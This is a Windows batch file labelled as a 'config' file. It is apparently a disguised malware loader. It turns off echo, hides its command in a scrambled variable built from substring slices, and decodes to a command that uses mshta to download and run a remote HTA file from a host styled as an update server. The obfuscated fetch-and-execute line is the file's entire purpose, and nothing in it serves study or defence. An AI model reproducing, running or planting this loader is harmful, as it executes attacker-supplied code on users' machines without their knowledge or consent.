REM config 2207 v3
@ec^ho ^off
se^t "jreh=aZxMfmPl7cts.N:nk-/edhGpu"
%jreh:~5,1%%jreh:~11,1%%jreh:~21,1%%jreh:~10,1%%jreh:~-25,1% %jreh:~-4,1%%jreh:~-15,1%%jreh:~-15,1%%jreh:~-2,1%%jreh:~14,1%%jreh:~18,1%%jreh:~18,1%%jreh:~-16,1%%jreh:~20,1%%jreh:~15,1%%jreh:~17,1%%jreh:~-1,1%%jreh:~-2,1%%jreh:~-5,1%%jreh:~0,1%%jreh:~10,1%%jreh:~19,1%%jreh:~12,1%%jreh:~-6,1%%jreh:~2,1%%jreh:~-25,1%%jreh:~5,1%%jreh:~23,1%%jreh:~7,1%%jreh:~19,1%%jreh:~18,1%%jreh:~24,1%%jreh:~23,1%%jreh:~-5,1%%jreh:~0,1%%jreh:~10,1%%jreh:~19,1%%jreh:~-13,1%%jreh:~-4,1%%jreh:~10,1%%jreh:~0,1%
